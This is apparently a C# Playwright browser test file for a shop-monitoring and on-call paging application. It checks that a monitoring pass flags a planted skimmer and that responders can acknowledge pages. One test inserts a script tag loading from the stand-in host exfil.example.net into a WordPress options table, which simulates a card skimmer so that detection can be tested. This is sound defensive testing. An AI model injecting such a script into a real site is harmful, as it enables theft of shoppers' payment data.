using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using CaseManagement.BrowserTests.Infrastructure;
using CaseManagement.Security;
using FluentAssertions;
using IdentityProvider;
using Microsoft.Playwright;
using MySqlConnector;

namespace CaseManagement.BrowserTests.Response;

/// <summary>
/// The shops' monitoring and paging, each two clicks from the start page: a pass run from the page, a change it raised accepted
/// with a reason; a page raised by a critical alert taken on; the admin's view of the on-call roster.
/// </summary>
[Collection(WebCollection.Name)]
public sealed class when_people_watch_shops_and_answer_pages(WebFixture fixture)
{
    [Fact]
    public async Task a_responder_runs_a_pass_sees_the_planted_skimmer_and_accepts_it_with_a_reason()
    {
        await using var shop = await ResponseShop.CreateAsync(fixture, customers: 5, orders: 10);
        await using var sam = await Visitor.ArriveAsync(fixture);
        await sam.SignInAsAsync("Sam Reyes");
        var page = sam.Page;
        await sam.OpenFromMenuAsync("Shops");
        await page.GetByRole(AriaRole.Link, new() { Name = shop.Name, Exact = true }).ClickAsync();
        await page.GetByRole(AriaRole.Heading, new() { Name = $"Monitoring of {shop.Name}" }).WaitForAsync();
        (await page.Locator("#schedule").CountAsync()).Should().Be(0, "setting the schedule is an admin's (the slice's administer policy)");

        await page.GetByRole(AriaRole.Button, new() { Name = "Run a pass now" }).ClickAsync();
        await page.WaitForURLAsync(url => url.EndsWith("#pass", StringComparison.Ordinal));
        (await page.Locator("table:has(caption:text('The latest passes')) tbody tr").First.InnerTextAsync()).Should().Contain("baseline recorded",
            "the first pass records what the shop holds as normal");

        await using (var connection = new MySqlConnection(new MySqlConnectionStringBuilder(WebFixture.ShopServer.ConnectionString) { Database = shop.Database }.ConnectionString))
        {
            await connection.OpenAsync();
            await using var plant = new MySqlCommand("INSERT INTO `wp_options` (option_name, option_value, autoload) " +
                                                     "VALUES ('footer_scripts', '<script src=\"https://exfil.example.net/c.js\"></script>', 'yes')", connection);
            await plant.ExecuteNonQueryAsync();
        }

        await page.GetByRole(AriaRole.Button, new() { Name = "Run a pass now" }).ClickAsync();
        await page.WaitForURLAsync(url => url.EndsWith("#pass", StringComparison.Ordinal));
        var skimmer = page.Locator("article.finding").Filter(new() { HasText = "skimmer signs" });
        await skimmer.WaitForAsync();
        await sam.ShouldBeAccessibleAsync();
        await sam.ScreenshotForDocsAsync("shop-monitoring");

        var unexplained = await page.RunAndWaitForResponseAsync(() => skimmer.GetByRole(AriaRole.Button, new() { Name = "Accept into the baseline" }).ClickAsync(),
            r => r.Request.Method == "POST");
        unexplained.Status.Should().Be(422, "accepting a change asks for a reason");
        (await skimmer.Locator(".field-error").InnerTextAsync()).Should().Contain("reason is required", "the API's words, beside the field");
        await sam.ShouldBeAccessibleAsync();

        await skimmer.GetByLabel("Why it is expected").FillAsync("the marketing team's consent banner, checked with them");
        await skimmer.GetByRole(AriaRole.Button, new() { Name = "Accept into the baseline" }).ClickAsync();
        await page.WaitForURLAsync(url => url.Contains("#accept-skimmer", StringComparison.Ordinal));
        (await page.Locator("article.finding").Filter(new() { HasText = "skimmer signs" }).CountAsync()).Should().Be(0, "an accepted change is no longer open");
        (await page.Locator("table:has(caption:text('Its history'))").InnerTextAsync()).Should().Contain("the marketing team's consent banner",
            "the baseline's history keeps who accepted it and why");
        sam.ShouldHaveSeenNoConsoleError();
    }

    [Fact]
    public async Task a_responder_takes_on_a_page_raised_by_a_critical_alert_and_the_admin_sees_the_roster()
    {
        await using var shop = await ResponseShop.CreateAsync(fixture, customers: 5, orders: 10);
        using var admin = fixture.ApiAs("alex.admin@demo-shop.example", DemoPeople.Organisation, Roles.Admin);
        await ResponseShop.SendAsync(admin, "/api/on-call/roster", new
        {
            people = new[] { new { name = "Sam Reyes", email = "sam.responder@demo-shop.example", timeZone = "Europe/Berlin" } },
            acknowledgeWithinMinutes = 15, reason = "Sam covers the shops this week",
        }, HttpStatusCode.OK);
        var source = await ResponseShop.SendAsync(admin, "/api/alert-sources", new
        {
            name = $"pg-{shop.Database[8..]}", format = "generic", shop = shop.Name,
            mapping = new
            {
                reference = new { path = "event.id" }, title = new { path = "event.summary" },
                severity = new { path = "event.level", values = new[] { new { @is = "critical", to = "critical" } }, @default = "low" },
                kind = new { path = "event.type", values = new[] { new { @is = "admin_created", to = "account-takeover" } }, @default = "other" },
                indicator = new { path = "event.actor" }, signal = new { path = "event.type" },
            },
        }, HttpStatusCode.Created);
        using var responder = fixture.ApiAs("sam.responder@demo-shop.example", DemoPeople.Organisation, Roles.Responder);
        var alert = await responder.PostAsJsonAsync($"/api/alerts?source={source["source"]!["id"]!.GetValue<Guid>()}", new
        {
            @event = new { id = $"evt-{shop.Database[8..]}", summary = "New administrator account created", level = "critical", type = "admin_created", actor = "mallory" },
        });
        alert.StatusCode.Should().Be(HttpStatusCode.Accepted, await alert.Content.ReadAsStringAsync());
        var pageId = await OpenPageAsync(responder, $"Critical alert on {shop.Name}");

        await using var sam = await Visitor.ArriveAsync(fixture);
        await sam.SignInAsAsync("Sam Reyes");
        await sam.OpenFromMenuAsync("Paging");
        var paged = sam.Page.Locator($"article[data-page='{pageId}']");
        (await paged.InnerTextAsync()).Should().Contain("Sam Reyes, step 1 of 1", "the page names whom it waits for");
        await paged.GetByLabel("Note (optional)").FillAsync(new string('x', 4001));
        var tooLong = await sam.Page.RunAndWaitForResponseAsync(() => paged.GetByRole(AriaRole.Button, new() { Name = "Take it on" }).ClickAsync(),
            r => r.Request.Method == "POST");
        tooLong.Status.Should().Be(422, "the acknowledge slice bounds the note");
        (await paged.Locator(".field-error").InnerTextAsync()).Should().Contain("note", "the API's words, beside the field");
        await sam.ShouldBeAccessibleAsync();
        await sam.ScreenshotForDocsAsync("paging");

        await paged.GetByLabel("Note (optional)").FillAsync("on it, looking at the shop's admins");
        await paged.GetByRole(AriaRole.Button, new() { Name = "Take it on" }).ClickAsync();
        await sam.Page.WaitForURLAsync(url => url.Contains("#acknowledge-", StringComparison.Ordinal));
        (await sam.Page.Locator($"article[data-page='{pageId}']").CountAsync()).Should().Be(0, "a page taken on is no longer open");
        (await sam.Page.Locator($"tr[data-page='{pageId}']").InnerTextAsync()).Should().Contain("taken on by", "the answered list says who took it on");
        await sam.ShouldBeAccessibleAsync();
        sam.ShouldHaveSeenNoConsoleError();

        await using var alex = await Visitor.ArriveAsync(fixture);
        await alex.SignInAsAsync("Alex Moreau");
        await alex.OpenFromMenuAsync("Admin");
        await alex.Page.GetByRole(AriaRole.Link, new() { Name = "paging page" }).ClickAsync();
        (await alex.Page.Locator("section[aria-labelledby='roster']").InnerTextAsync()).Should().Contain("Sam Reyes").And.Contain("Sam covers the shops this week");
        (await alex.Page.Locator("#open-pages").CountAsync()).Should().Be(0, "an admin reads no case data, pages included");
        await alex.ShouldBeAccessibleAsync();
        alex.ShouldHaveSeenNoConsoleError();
    }

    private static async Task<Guid> OpenPageAsync(HttpClient reader, string subject)
    {
        for (var i = 0; i < 150; i++)
        {
            var pages = JsonNode.Parse(await reader.GetStringAsync("/api/pages?status=open"))!.AsArray();
            if (pages.FirstOrDefault(p => p!["subject"]!.GetValue<string>().Contains(subject, StringComparison.Ordinal)) is { } found)
            {
                return found["id"]!.GetValue<Guid>();
            }

            await Task.Delay(200);
        }

        throw new TimeoutException($"No open page about '{subject}' was raised within 30 s.");
    }
}
